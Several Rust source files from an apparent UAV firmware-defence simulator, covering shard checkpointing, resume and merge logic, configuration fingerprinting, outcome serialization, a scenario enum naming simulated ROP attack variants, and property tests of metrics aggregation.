/// checkpoint as its prefix completes and handing it to `on_outcome` (for
/// JSONL streaming) in job order. `progress_done_offset` seeds the
/// heartbeat counter with the jobs completed before this call, campaign-
/// wide, so a service's progress stream counts monotonically across
/// shards and restarts.
///
/// Jobs are constructed lazily from their indices — a shard run allocates
/// O(shard jobs), never O(campaign jobs).
pub fn run_shard_resume(
    cfg: &CampaignConfig,
    prepared: &PreparedCampaign,
    ckpt: &mut ShardCheckpoint,
    budget_jobs: Option<usize>,
    progress_done_offset: usize,
    mut on_outcome: impl FnMut(u64, &BoardOutcome),
) -> Result<ShardRunStatus, String> {
    if !ckpt.matches(cfg) {
        return Err(format!(
            "shard fingerprint {:#018x} does not match this campaign ({:#018x}) — \
             refusing to mix results from different configurations",
            ckpt.fingerprint,
            config_fingerprint(cfg)
        ));
    }
    if ckpt.job_hi > cfg.total_jobs() as u64 {
        return Err(format!(
            "shard range {}..{} exceeds the campaign's {} jobs",
            ckpt.job_lo,
            ckpt.job_hi,
            cfg.total_jobs()
        ));
    }
    let mut pending: Vec<Job> = (ckpt.job_lo..ckpt.job_hi)
        .filter(|j| !ckpt.outcomes.contains_key(j))
        .map(|j| crate::job_at(cfg, j as usize))
        .collect();
    if let Some(budget) = budget_jobs {
        pending.truncate(budget);
    }
    let meter = ProgressMeter::new(cfg, progress_done_offset, cfg.total_jobs());
    let outcomes = &mut ckpt.outcomes;
    let (ran, _shard_metrics) =
        crate::execute_jobs_streaming(cfg, &prepared.0, &pending, &meter, |i, outcome, _gcs| {
            let job = pending[i].job_index as u64;
            on_outcome(job, &outcome);
            assert!(
                outcomes.insert(job, outcome).is_none(),
                "job {job} checkpointed twice"
            );
        });
    Ok(ShardRunStatus {
        ran,
        complete: ckpt.complete(),
        interrupted: cfg.interrupted(),
    })
}

/// Fold complete shards back into the campaign's report and metrics —
/// byte-identical (`to_json`, `to_prometheus`, `to_jsonl`) to an unsharded
/// [`crate::run_campaign_with_metrics`] at any thread count.
///
/// Accepts the shards in any order, from any contiguous partition of the
/// job space (they need not share a [`ShardPlan`]); fails if a shard
/// fingerprints a different campaign, is incomplete, or the ranges do not
/// exactly partition `[0, total_jobs)`.
pub fn merge_shard_checkpoints(
    cfg: &CampaignConfig,
    mut shards: Vec<ShardCheckpoint>,
) -> Result<(CampaignReport, MetricsRegistry), String> {
    let fp = config_fingerprint(cfg);
    for s in &shards {
        if s.fingerprint != fp {
            return Err(format!(
                "shard {} fingerprints a different campaign ({:#018x} != {fp:#018x})",
                s.shard_index, s.fingerprint
            ));
        }
        if !s.complete() {
            return Err(format!(
                "shard {} is incomplete ({}/{} jobs) — finish or resume it before merging",
                s.shard_index,
                s.outcomes.len(),
                s.jobs()
            ));
        }
    }
    shards.sort_by_key(|s| s.job_lo);
    let total = cfg.total_jobs() as u64;
    let mut expect = 0u64;
    for s in &shards {
        if s.job_lo != expect {
            return Err(format!(
                "shard ranges do not partition the job space: expected a shard starting \
                 at {expect}, found {}..{}",
                s.job_lo, s.job_hi
            ));
        }
        expect = s.job_hi;
    }
    if expect != total {
        return Err(format!(
            "shard ranges cover {expect} of {total} jobs — missing the tail"
        ));
    }
    // Shards are contiguous and sorted, so per-shard job order concatenates
    // into the campaign's job order — the exact list the unsharded run
    // stitches.
    let outcomes: Vec<BoardOutcome> = shards
        .iter()
        .flat_map(|s| s.outcomes.values().cloned())
        .collect();
    let fleet = totals_from_outcomes(&outcomes);
    let report = CampaignReport::assemble(
        summarize(cfg),
        fleet,
        outcomes,
        &cfg.scenarios,
        &cfg.loss_levels,
        &cfg.fault_levels,
    );
    let metrics = report.metrics();
    Ok((report, metrics))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg() -> CampaignConfig {
        CampaignConfig {
            boards: 3,
            scenarios: vec![crate::Scenario::Benign, crate::Scenario::V2Stealthy],
            ..CampaignConfig::default()
        }
    }

    #[test]
    fn plan_partitions_the_job_space() {
        let plan = ShardPlan::new(&cfg(), 4); // 6 jobs, shards of 4
        assert_eq!(plan.shard_count(), 2);
        assert_eq!(plan.range(0), 0..4);
        assert_eq!(plan.range(1), 4..6);
        assert_eq!(plan.range(2), 6..6, "past-the-end shards are empty");
        // Degenerate request still makes progress.
        assert_eq!(ShardPlan::new(&cfg(), 0).shard_jobs, 1);
    }

    #[test]
    fn shard_checkpoint_round_trips_and_rejects_corruption() {
        let cfg = cfg();
        let plan = ShardPlan::new(&cfg, 4);
        let mut s = ShardCheckpoint::new(&cfg, &plan, 1);
        assert_eq!((s.job_lo, s.job_hi), (4, 6));
        s.insert_outcome(4, crate::checkpoint::tests::sample_outcome(4));
        let blob = s.to_bytes();
        assert_eq!(ShardCheckpoint::from_bytes(&blob).unwrap(), s);
        let mut bad = blob.clone();
        let mid = bad.len() / 2;
        bad[mid] ^= 1;
        assert!(ShardCheckpoint::from_bytes(&bad).is_err());
        // A whole-campaign checkpoint blob is a different wire kind.
        let ckpt = crate::Checkpoint::new(&cfg);
        assert!(matches!(
            ShardCheckpoint::from_bytes(&ckpt.to_bytes()),
            Err(SnapshotError::WrongKind { .. })
        ));
    }

    #[test]
    fn merge_rejects_gaps_overlaps_and_foreign_shards() {
        let cfg = cfg();
        let plan = ShardPlan::new(&cfg, 3); // 6 jobs → 2 shards of 3
        let fill = |s: &mut ShardCheckpoint| {
            for j in s.job_lo..s.job_hi {
                s.insert_outcome(j, crate::checkpoint::tests::sample_outcome(j as usize));
            }
        };
        let mut a = ShardCheckpoint::new(&cfg, &plan, 0);
        let mut b = ShardCheckpoint::new(&cfg, &plan, 1);
        fill(&mut a);
        // Incomplete shard refused.
        assert!(merge_shard_checkpoints(&cfg, vec![a.clone(), b.clone()])
            .unwrap_err()
            .contains("incomplete"));
        fill(&mut b);
        // Missing shard refused.
        assert!(
            merge_shard_checkpoints(&cfg, vec![a.clone()])
                .unwrap_err()
                .contains("partition")
                || merge_shard_checkpoints(&cfg, vec![a.clone()])
                    .unwrap_err()
                    .contains("missing")
        );
        // Duplicate shard refused (overlap).
        assert!(merge_shard_checkpoints(&cfg, vec![a.clone(), a.clone(), b.clone()]).is_err());
        // Foreign fingerprint refused.
        let other = CampaignConfig {
            seed: 0x9999,
            ..cfg.clone()
        };
        assert!(merge_shard_checkpoints(&other, vec![a, b])
            .unwrap_err()
            .contains("different campaign"));
    }
}
