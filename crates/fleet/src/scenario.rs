//! Campaign scenarios: what each board in the fleet is subjected to.

use rop::attack::AttackKind;

/// One attack (or control) scenario a campaign schedules against boards.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scenario {
    /// No attack: the baseline that calibrates heartbeat and link numbers.
    Benign,
    /// The paper's basic ROP (§IV-C): write memory, then crash.
    V1Crash,
    /// The stealthy single-packet attack (§IV-D): clean return.
    V2Stealthy,
    /// The trampoline attack (§IV-E): staged multi-packet chain.
    V3Trampoline,
}

impl Scenario {
    /// All scenarios, in report order.
    pub fn all() -> [Scenario; 4] {
        [
            Scenario::Benign,
            Scenario::V1Crash,
            Scenario::V2Stealthy,
            Scenario::V3Trampoline,
        ]
    }

    /// Stable name used in reports and on the CLI.
    pub fn name(&self) -> &'static str {
        match self {
            Scenario::Benign => "benign",
            Scenario::V1Crash => AttackKind::V1.name(),
            Scenario::V2Stealthy => AttackKind::V2.name(),
            Scenario::V3Trampoline => AttackKind::V3 {
                staging: AttackKind::DEFAULT_STAGING,
            }
            .name(),
        }
    }

    /// The attack this scenario injects, if any.
    pub fn attack_kind(&self) -> Option<AttackKind> {
        match self {
            Scenario::Benign => None,
            Scenario::V1Crash => Some(AttackKind::V1),
            Scenario::V2Stealthy => Some(AttackKind::V2),
            Scenario::V3Trampoline => Some(AttackKind::V3 {
                staging: AttackKind::DEFAULT_STAGING,
            }),
        }
    }
}

impl std::str::FromStr for Scenario {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "benign" | "baseline" => Ok(Scenario::Benign),
            _ => match s.parse::<AttackKind>() {
                Ok(AttackKind::V1) => Ok(Scenario::V1Crash),
                Ok(AttackKind::V2) => Ok(Scenario::V2Stealthy),
                Ok(AttackKind::V3 { .. }) => Ok(Scenario::V3Trampoline),
                Err(_) => Err(format!(
                    "unknown scenario `{s}` (benign, v1|crash, v2|stealthy, v3|trampoline)"
                )),
            },
        }
    }
}

/// Parse a comma-separated scenario list (`stealthy,benign`); `all` means
/// every scenario.
pub fn parse_scenarios(s: &str) -> Result<Vec<Scenario>, String> {
    if s == "all" {
        return Ok(Scenario::all().to_vec());
    }
    s.split(',')
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .map(str::parse)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_names_and_aliases() {
        assert_eq!("benign".parse::<Scenario>().unwrap(), Scenario::Benign);
        assert_eq!("crash".parse::<Scenario>().unwrap(), Scenario::V1Crash);
        assert_eq!(
            "stealthy".parse::<Scenario>().unwrap(),
            Scenario::V2Stealthy
        );
        assert_eq!(
            "v3-trampoline".parse::<Scenario>().unwrap(),
            Scenario::V3Trampoline
        );
        assert!("frob".parse::<Scenario>().is_err());
        assert_eq!(parse_scenarios("all").unwrap().len(), 4);
        assert_eq!(
            parse_scenarios("stealthy, benign").unwrap(),
            vec![Scenario::V2Stealthy, Scenario::Benign]
        );
        for s in Scenario::all() {
            assert_eq!(
                s.name().parse::<Scenario>().unwrap(),
                s,
                "{s:?} round-trips"
            );
        }
    }
}
