//! Campaign checkpoint/resume: kill a fleet campaign mid-flight, restart
//! it later, and get the byte-identical [`CampaignReport`] the
//! uninterrupted run would have produced.
//!
//! A campaign is a pure function of its [`CampaignConfig`], and every job
//! (one board's full flight) is independent of every other, so the only
//! state worth persisting is *which jobs already finished and what they
//! observed*. A [`Checkpoint`] is exactly that: a fingerprint of the
//! config (so a checkpoint can never silently resume a *different*
//! campaign) plus the completed `job index → BoardOutcome` map, serialized
//! through the `mavr-snapshot` wire format (CRC-guarded, versioned).
//!
//! Fleet-wide [`RouterTotals`] are *not* stored: they are a pure fold over
//! the per-board outcomes ([`totals_from_outcomes`]), which is what makes
//! resumed reports bit-identical to uninterrupted ones.
//!
//! [`CampaignReport`]: crate::CampaignReport
//! [`CampaignConfig`]: crate::CampaignConfig

use crate::report::{BoardOutcome, JobFailure, JobFailureKind};
use crate::scenario::Scenario;
use crate::CampaignConfig;
use mavlink_lite::channel::ChannelStats;
use mavlink_lite::RouterTotals;
use mavr_snapshot::{Kind, Reader, SnapshotError, Writer};
use std::collections::BTreeMap;
use telemetry::metrics::QuantileSketch;

/// FNV-1a over the campaign identity: everything that changes the result,
/// nothing that doesn't (`threads` and telemetry wiring are excluded).
pub fn config_fingerprint(cfg: &CampaignConfig) -> u64 {
    let losses: Vec<u64> = cfg.loss_levels.iter().map(|l| l.to_bits()).collect();
    let faults: Vec<u64> = cfg.fault_levels.iter().map(|f| f.to_bits()).collect();
    let scenarios: Vec<&str> = cfg.scenarios.iter().map(Scenario::name).collect();
    let mut canonical = format!(
        "seed={};boards={};scenarios={scenarios:?};loss_bits={losses:?};\
         fault_bits={faults:?};\
         warmup={};attack={};gap={};gcs={};app={}",
        cfg.seed,
        cfg.boards,
        cfg.warmup_cycles,
        cfg.attack_cycles,
        cfg.packet_gap_cycles,
        cfg.gcs_capacity,
        cfg.app.name,
    );
    // Physics changes every outcome (the flight advances in whole world
    // steps), so it is part of the identity — but only appended when on,
    // keeping every pre-physics fingerprint stable.
    if cfg.physics {
        canonical.push_str(";physics=1");
    }
    // Same stability pattern for tenant namespaces: tenant 0 is the
    // single-tenant engine, so only a nonzero tenant (which re-seeds every
    // stream) joins the identity.
    if cfg.tenant != 0 {
        canonical.push_str(&format!(";tenant={}", cfg.tenant));
    }
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for b in canonical.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Fleet-wide totals reconstructed from per-board outcomes — identical to
/// what [`mavlink_lite::Router::totals`] reports after adopting every
/// board's ground-station session (each outcome carries its session's
/// lifetime counters).
pub fn totals_from_outcomes(outcomes: &[BoardOutcome]) -> RouterTotals {
    let mut t = RouterTotals {
        links: outcomes.len(),
        ..RouterTotals::default()
    };
    for o in outcomes {
        t.packets += o.packets;
        t.heartbeats += o.heartbeats;
        t.bad_checksums += o.bad_checksums;
        t.seq_gaps += o.seq_gaps;
        t.packets_lost += o.packets_lost;
    }
    t
}

/// Persistent progress of a partially run campaign.
#[derive(Debug, Clone, PartialEq)]
pub struct Checkpoint {
    /// [`config_fingerprint`] of the campaign this progress belongs to.
    pub fingerprint: u64,
    /// Completed jobs: campaign job index → that board's outcome.
    pub outcomes: BTreeMap<u64, BoardOutcome>,
    /// Detection latencies of the completed jobs, as a mergeable sketch —
    /// O(1) in campaign size, and what the wire format carries instead of
    /// a latency vector. Maintained by [`Checkpoint::insert_outcome`]; a
    /// resumed run can show MTTR-so-far without replaying anything.
    pub latency_sketch: QuantileSketch,
}

impl Checkpoint {
    /// An empty checkpoint for `cfg` (no jobs completed yet).
    pub fn new(cfg: &CampaignConfig) -> Self {
        Checkpoint {
            fingerprint: config_fingerprint(cfg),
            outcomes: BTreeMap::new(),
            latency_sketch: QuantileSketch::new(),
        }
    }

    /// Whether this checkpoint belongs to `cfg`.
    pub fn matches(&self, cfg: &CampaignConfig) -> bool {
        self.fingerprint == config_fingerprint(cfg)
    }

    /// Record a completed job: stores the outcome and folds its detection
    /// latency (if any) into the running sketch. Inserting the same job
    /// index twice is a caller bug (the latency would double-count), so
    /// it panics.
    pub fn insert_outcome(&mut self, job: u64, outcome: BoardOutcome) {
        if let Some(latency) = outcome.time_to_recovery {
            self.latency_sketch.record(latency);
        }
        assert!(
            self.outcomes.insert(job, outcome).is_none(),
            "job {job} checkpointed twice"
        );
    }

    /// Serialize as a CRC-guarded snapshot blob ([`Kind::Checkpoint`]).
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut w = Writer::new();
        w.put_u64(self.fingerprint);
        w.put_bytes(&self.latency_sketch.to_bytes());
        w.put_u64(self.outcomes.len() as u64);
        for (&job, outcome) in &self.outcomes {
            w.put_u64(job);
            put_outcome(&mut w, outcome);
        }
        w.finish(Kind::Checkpoint)
    }

    /// Deserialize a blob written by [`Checkpoint::to_bytes`].
    pub fn from_bytes(bytes: &[u8]) -> Result<Self, SnapshotError> {
        let mut r = Reader::open_expecting(bytes, Kind::Checkpoint)?;
        let fingerprint = r.u64()?;
        let sketch_bytes = r.bytes()?;
        let latency_sketch = QuantileSketch::from_bytes(&sketch_bytes)
            .ok_or_else(|| SnapshotError::Malformed("latency sketch".to_string()))?;
        let n = r.u64()? as usize;
        let mut outcomes = BTreeMap::new();
        for _ in 0..n {
            let job = r.u64()?;
            outcomes.insert(job, get_outcome(&mut r)?);
        }
        r.done()?;
        let ckpt = Checkpoint {
            fingerprint,
            outcomes,
            latency_sketch,
        };
        // The sketch is derived state; a blob whose sketch disagrees with
        // its own outcomes was hand-edited or corrupted past the CRC.
        let mut derived = QuantileSketch::new();
        for l in ckpt.outcomes.values().filter_map(|o| o.time_to_recovery) {
            derived.record(l);
        }
        if derived != ckpt.latency_sketch {
            return Err(SnapshotError::Malformed(
                "latency sketch disagrees with outcomes".to_string(),
            ));
        }
        Ok(ckpt)
    }
}

fn scenario_tag(s: Scenario) -> u8 {
    match s {
        Scenario::Benign => 0,
        Scenario::V1Crash => 1,
        Scenario::V2Stealthy => 2,
        Scenario::V3Trampoline => 3,
    }
}

fn scenario_from_tag(t: u8) -> Result<Scenario, SnapshotError> {
    Ok(match t {
        0 => Scenario::Benign,
        1 => Scenario::V1Crash,
        2 => Scenario::V2Stealthy,
        3 => Scenario::V3Trampoline,
        _ => return Err(SnapshotError::Malformed(format!("scenario tag {t}"))),
    })
}

fn put_stats(w: &mut Writer, s: &ChannelStats) {
    w.put_u64(s.bytes_in);
    w.put_u64(s.bytes_out);
    w.put_u64(s.dropped);
    w.put_u64(s.corrupted);
    w.put_u64(s.duplicated);
    w.put_u64(s.delayed);
}

fn get_stats(r: &mut Reader<'_>) -> Result<ChannelStats, SnapshotError> {
    Ok(ChannelStats {
        bytes_in: r.u64()?,
        bytes_out: r.u64()?,
        dropped: r.u64()?,
        corrupted: r.u64()?,
        duplicated: r.u64()?,
        delayed: r.u64()?,
    })
}

pub(crate) fn put_outcome(w: &mut Writer, o: &BoardOutcome) {
    w.put_u8(scenario_tag(o.scenario));
    w.put_u64(o.loss.to_bits());
    w.put_u64(o.fault.to_bits());
    w.put_u64(o.board_index as u64);
    w.put_u64(o.board_seed);
    w.put_u64(o.attack_packets as u64);
    w.put_bool(o.attack_succeeded);
    w.put_u64(o.recoveries as u64);
    w.put_u64(o.reflash_retries);
    w.put_u64(o.degraded_boots);
    w.put_bool(o.bricked);
    w.put_bool(o.time_to_recovery.is_some());
    w.put_u64(o.time_to_recovery.unwrap_or(0));
    w.put_u64(o.final_cycle);
    w.put_u64(o.heartbeats);
    w.put_u64(o.packets);
    w.put_u64(o.seq_gaps);
    w.put_u64(o.packets_lost);
    w.put_u64(o.bad_checksums);
    w.put_u8(o.uav_bad_crc);
    w.put_u64(o.sim_block_hits);
    w.put_u64(o.sim_block_invalidations);
    w.put_u64(o.sim_block_count);
    put_stats(w, &o.up_stats);
    put_stats(w, &o.down_stats);
    w.put_bool(o.world.is_some());
    let wm = o.world.unwrap_or_default();
    w.put_u64(wm.peak_alt_err_m.to_bits());
    w.put_u32(wm.ground_impacts);
    w.put_u64(wm.alt_lost_m.to_bits());
    w.put_u32(wm.recoveries_caught);
    w.put_bool(o.failure.is_some());
    let f = o.failure.unwrap_or(JobFailure {
        kind: JobFailureKind::Panic,
        attempts: 0,
    });
    w.put_u8(failure_tag(f.kind));
    w.put_u32(f.attempts);
}

fn failure_tag(kind: JobFailureKind) -> u8 {
    match kind {
        JobFailureKind::Panic => 1,
        JobFailureKind::Timeout => 2,
    }
}

fn failure_from_tag(tag: u8) -> Result<JobFailureKind, SnapshotError> {
    match tag {
        1 => Ok(JobFailureKind::Panic),
        2 => Ok(JobFailureKind::Timeout),
        _ => Err(SnapshotError::Malformed(format!("job-failure tag {tag}"))),
    }
}

pub(crate) fn get_outcome(r: &mut Reader<'_>) -> Result<BoardOutcome, SnapshotError> {
    Ok(BoardOutcome {
        scenario: scenario_from_tag(r.u8()?)?,
        loss: f64::from_bits(r.u64()?),
        fault: f64::from_bits(r.u64()?),
        board_index: r.u64()? as usize,
        board_seed: r.u64()?,
        attack_packets: r.u64()? as usize,
        attack_succeeded: r.bool()?,
        recoveries: r.u64()? as usize,
        reflash_retries: r.u64()?,
        degraded_boots: r.u64()?,
        bricked: r.bool()?,
        time_to_recovery: {
            let present = r.bool()?;
            let v = r.u64()?;
            present.then_some(v)
        },
        final_cycle: r.u64()?,
        heartbeats: r.u64()?,
        packets: r.u64()?,
        seq_gaps: r.u64()?,
        packets_lost: r.u64()?,
        bad_checksums: r.u64()?,
        uav_bad_crc: r.u8()?,
        sim_block_hits: r.u64()?,
        sim_block_invalidations: r.u64()?,
        sim_block_count: r.u64()?,
        up_stats: get_stats(r)?,
        down_stats: get_stats(r)?,
        // v2 checkpoints predate the physics arena: no world fields on the
        // wire, and no physics campaign could have written them.
        world: if r.version() >= 3 {
            let present = r.bool()?;
            let wm = crate::report::WorldMetrics {
                peak_alt_err_m: f64::from_bits(r.u64()?),
                ground_impacts: r.u32()?,
                alt_lost_m: f64::from_bits(r.u64()?),
                recoveries_caught: r.u32()?,
            };
            present.then_some(wm)
        } else {
            None
        },
        // v3 checkpoints predate job supervision: nothing the unsupervised
        // engine ran could have been quarantined.
        failure: if r.version() >= 4 {
            let present = r.bool()?;
            let kind = r.u8()?;
            let attempts = r.u32()?;
            if present {
                Some(JobFailure {
                    kind: failure_from_tag(kind)?,
                    attempts,
                })
            } else {
                None
            }
        } else {
            None
        },
    })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// A fully-populated outcome, shared with the shard checkpoint tests
    /// so both wire formats round-trip the same payload.
    pub(crate) fn sample_outcome(job: usize) -> BoardOutcome {
        BoardOutcome {
            scenario: Scenario::V2Stealthy,
            loss: 0.02,
            fault: 0.0001,
            board_index: job % 4,
            board_seed: 0xfeed_0000 + job as u64,
            attack_packets: 1,
            attack_succeeded: false,
            recoveries: 1,
            reflash_retries: job as u64,
            degraded_boots: (job % 2) as u64,
            bricked: job == 3,
            time_to_recovery: job.is_multiple_of(2).then_some(123_456),
            final_cycle: 6_300_000,
            heartbeats: 42,
            packets: 50,
            seq_gaps: 1,
            packets_lost: 2,
            bad_checksums: 3,
            uav_bad_crc: 4,
            sim_block_hits: 1000 + job as u64,
            sim_block_invalidations: job as u64,
            sim_block_count: 17,
            up_stats: ChannelStats {
                bytes_in: 100,
                bytes_out: 98,
                dropped: 2,
                corrupted: 1,
                duplicated: 0,
                delayed: 0,
            },
            down_stats: ChannelStats::default(),
            world: job
                .is_multiple_of(2)
                .then_some(crate::report::WorldMetrics {
                    peak_alt_err_m: 3.25 + job as f64,
                    ground_impacts: job as u32,
                    alt_lost_m: 0.5 * job as f64,
                    recoveries_caught: 1,
                }),
            failure: (job == 4).then_some(JobFailure {
                kind: JobFailureKind::Timeout,
                attempts: 3,
            }),
        }
    }

    #[test]
    fn checkpoint_round_trips() {
        let cfg = CampaignConfig::default();
        let mut ckpt = Checkpoint::new(&cfg);
        for job in 0..5u64 {
            ckpt.insert_outcome(job, sample_outcome(job as usize));
        }
        // Outcomes 0, 2 and 4 carry latencies; the wire sketch tracks them.
        assert_eq!(ckpt.latency_sketch.count(), 3);
        let blob = ckpt.to_bytes();
        assert_eq!(Checkpoint::from_bytes(&blob).unwrap(), ckpt);
    }

    #[test]
    fn corrupt_checkpoint_is_rejected() {
        let cfg = CampaignConfig::default();
        let mut ckpt = Checkpoint::new(&cfg);
        ckpt.insert_outcome(0, sample_outcome(0));
        let mut blob = ckpt.to_bytes();
        let mid = blob.len() / 2;
        blob[mid] ^= 1;
        assert!(matches!(
            Checkpoint::from_bytes(&blob),
            Err(SnapshotError::CrcMismatch { .. })
        ));
    }

    #[test]
    fn fingerprint_tracks_result_relevant_config_only() {
        let cfg = CampaignConfig::default();
        let base = config_fingerprint(&cfg);
        // Thread count never changes the result, so it must not change
        // the fingerprint.
        let mut threads = cfg.clone();
        threads.threads = 7;
        assert_eq!(config_fingerprint(&threads), base);
        // Block fusion is an engine knob with differentially verified
        // identical results — a fusion-off resume of a fusion-on
        // checkpoint is legal, so it must not change the fingerprint.
        let mut fusion = cfg.clone();
        fusion.block_fusion = false;
        assert_eq!(config_fingerprint(&fusion), base);
        // Job sabotage is a chaos harness aimed at the *service*, not a
        // different experiment: a sabotaged campaign must checkpoint and
        // resume under the same fingerprint as the clean one.
        let mut sabotaged = cfg.clone();
        sabotaged.sabotage = crate::JobChaos {
            panic_rate: 0.5,
            hang_rate: 0.25,
            flaky_rate: 0.1,
            seed: 99,
        };
        assert_eq!(config_fingerprint(&sabotaged), base);
        // Anything that alters the outcome must alter the fingerprint.
        for mutate in [
            |c: &mut CampaignConfig| c.seed += 1,
            |c: &mut CampaignConfig| c.boards += 1,
            |c: &mut CampaignConfig| c.loss_levels.push(0.5),
            |c: &mut CampaignConfig| c.fault_levels.push(0.0001),
            |c: &mut CampaignConfig| c.scenarios.push(Scenario::V1Crash),
            |c: &mut CampaignConfig| c.attack_cycles += 1,
            // Physics snaps the flight to world-step boundaries and couples
            // the loop — a physics resume of a bare checkpoint (or vice
            // versa) would silently mix result families.
            |c: &mut CampaignConfig| c.physics = true,
            // A tenant re-seeds every stream, so a tenant checkpoint can
            // never resume another tenant's campaign.
            |c: &mut CampaignConfig| c.tenant = 7,
        ] {
            let mut c = cfg.clone();
            mutate(&mut c);
            assert_ne!(config_fingerprint(&c), base);
            assert!(!Checkpoint::new(&cfg).matches(&c));
        }
    }

    #[test]
    fn totals_fold_matches_router_semantics() {
        let outs: Vec<BoardOutcome> = (0..3).map(sample_outcome).collect();
        let t = totals_from_outcomes(&outs);
        assert_eq!(t.links, 3);
        assert_eq!(t.packets, 150);
        assert_eq!(t.heartbeats, 126);
        assert_eq!(t.seq_gaps, 3);
        assert_eq!(t.packets_lost, 6);
        assert_eq!(t.bad_checksums, 9);
    }
}
