//! Partition invariance of the campaign observability fold.
//!
//! The engine's guarantee is that `--metrics-out` bytes depend only on the
//! outcome list — never on how the scheduler partitioned jobs across
//! worker shards. That holds because [`fold_outcome_metrics`] is the
//! single aggregation function and registry merge is associative and
//! commutative; this test drives the *fleet-specific* fold (every counter,
//! the latency sketch, the packets histogram — including the engine's
//! `sim_block_*` counters) over synthetic outcomes and arbitrary shard
//! partitions.

use mavlink_lite::channel::ChannelStats;
use mavr_fleet::{fold_outcome_metrics, registry_from_outcomes, BoardOutcome, Scenario};
use proptest::collection::vec as pvec;
use proptest::prelude::*;
use telemetry::metrics::MetricsRegistry;

fn scenario(tag: u8) -> Scenario {
    match tag % 4 {
        0 => Scenario::Benign,
        1 => Scenario::V1Crash,
        2 => Scenario::V2Stealthy,
        _ => Scenario::V3Trampoline,
    }
}

/// A synthetic outcome exercising every labelled series the fold emits.
fn outcome_strategy() -> impl Strategy<Value = BoardOutcome> {
    (
        any::<u8>(),
        0usize..3,
        any::<u64>(),
        (0u64..1_000_000, 0u64..100, 0u64..5_000),
        (0u64..10_000, 0u64..50, 0u64..1 << 40),
        0u64..2_000_000,
    )
        .prop_map(|(tag, loss_idx, seed, a, b, latency)| {
            let latency = (latency > 0).then_some(latency);
            let (hits, invalidations, blocks) = a;
            let (packets, recoveries, final_cycle) = b;
            BoardOutcome {
                scenario: scenario(tag),
                loss: [0.0, 0.01, 0.05][loss_idx],
                fault: if tag & 1 == 0 { 0.0 } else { 0.0001 },
                board_index: usize::from(tag) % 8,
                board_seed: seed,
                attack_packets: usize::from(tag & 3),
                attack_succeeded: tag & 4 != 0,
                recoveries: recoveries as usize,
                reflash_retries: u64::from(tag) * 3,
                degraded_boots: u64::from(tag & 7),
                bricked: tag & 8 != 0,
                time_to_recovery: latency,
                final_cycle,
                heartbeats: seed % 1000,
                packets,
                seq_gaps: seed % 7,
                packets_lost: seed % 13,
                bad_checksums: seed % 5,
                uav_bad_crc: tag,
                sim_block_hits: hits,
                sim_block_invalidations: invalidations,
                sim_block_count: blocks,
                up_stats: ChannelStats::default(),
                down_stats: ChannelStats::default(),
                world: (tag & 16 != 0).then_some(mavr_fleet::WorldMetrics {
                    peak_alt_err_m: f64::from(tag) * 0.25,
                    ground_impacts: u32::from(tag & 1),
                    alt_lost_m: f64::from(tag & 7),
                    recoveries_caught: u32::from(tag & 3),
                }),
                failure: (tag & 32 != 0).then_some(mavr_fleet::JobFailure {
                    kind: if tag & 64 != 0 {
                        mavr_fleet::JobFailureKind::Panic
                    } else {
                        mavr_fleet::JobFailureKind::Timeout
                    },
                    attempts: 3,
                }),
            }
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// One worker folding every outcome must expose byte-identically to
    /// any partition of the same outcomes across shards, merged in any
    /// order — the thread-count invariance `--metrics-out` promises.
    #[test]
    fn outcome_fold_is_partition_invariant(
        outcomes in pvec(outcome_strategy(), 0..40),
        cuts in pvec(0usize..40, 0..5),
    ) {
        let whole = registry_from_outcomes(&outcomes);

        let mut bounds: Vec<usize> = cuts.iter().map(|c| c % (outcomes.len() + 1)).collect();
        bounds.push(0);
        bounds.push(outcomes.len());
        bounds.sort_unstable();
        let shards: Vec<MetricsRegistry> = bounds
            .windows(2)
            .map(|w| {
                let mut shard = MetricsRegistry::new();
                for o in &outcomes[w[0]..w[1]] {
                    fold_outcome_metrics(&mut shard, o);
                }
                shard
            })
            .collect();
        let mut forward = MetricsRegistry::new();
        for s in &shards {
            forward.merge(s);
        }
        let mut reverse = MetricsRegistry::new();
        for s in shards.iter().rev() {
            reverse.merge(s);
        }
        forward.set_gauge("campaign_jobs_total", &[], outcomes.len() as f64);
        reverse.set_gauge("campaign_jobs_total", &[], outcomes.len() as f64);
        prop_assert_eq!(whole.to_prometheus(), forward.to_prometheus());
        prop_assert_eq!(whole.to_jsonl(), forward.to_jsonl());
        prop_assert_eq!(forward.to_prometheus(), reverse.to_prometheus());
        prop_assert_eq!(forward.to_jsonl(), reverse.to_jsonl());

        // The engine counters really are in the exposition (when nonzero),
        // even though they are deliberately absent from the report JSON.
        if outcomes.iter().any(|o| o.sim_block_hits > 0) {
            prop_assert!(whole.to_prometheus().contains("campaign_sim_block_hits_total"));
        }
    }
}
