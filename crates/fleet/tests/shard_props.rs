//! Shard-merge laws: cutting a campaign's job space into contiguous
//! shards, running them in any order (with mid-shard kills, serialize/
//! deserialize cycles, and varying thread counts along the way), and
//! merging the shard checkpoints must reproduce the unsharded campaign —
//! report JSON, Prometheus exposition, and JSONL metrics, byte for byte.
//!
//! These laws are what let the campaign service scale a campaign across
//! checkpointed segments without ever holding the whole job space: the
//! merged artifact is provably the one a single uninterrupted run would
//! have written.

use mavr_fleet::{
    config_fingerprint, json_prelude, merge_shard_checkpoints, run_campaign_with_metrics,
    run_shard_resume, summarize, BoardOutcome, CampaignAggregate, CampaignConfig, PreparedCampaign,
    Scenario, ShardCheckpoint, JSON_EPILOGUE,
};
use proptest::collection::vec as pvec;
use proptest::prelude::*;
use std::collections::BTreeMap;
use std::sync::OnceLock;

/// The fixed campaign the laws are tested against: 2 scenarios × 2 fault
/// levels × 2 boards = 8 jobs, small enough to rerun per case.
fn cfg() -> CampaignConfig {
    CampaignConfig {
        boards: 2,
        scenarios: vec![Scenario::Benign, Scenario::V2Stealthy],
        loss_levels: vec![0.01],
        fault_levels: vec![0.0, 0.0005],
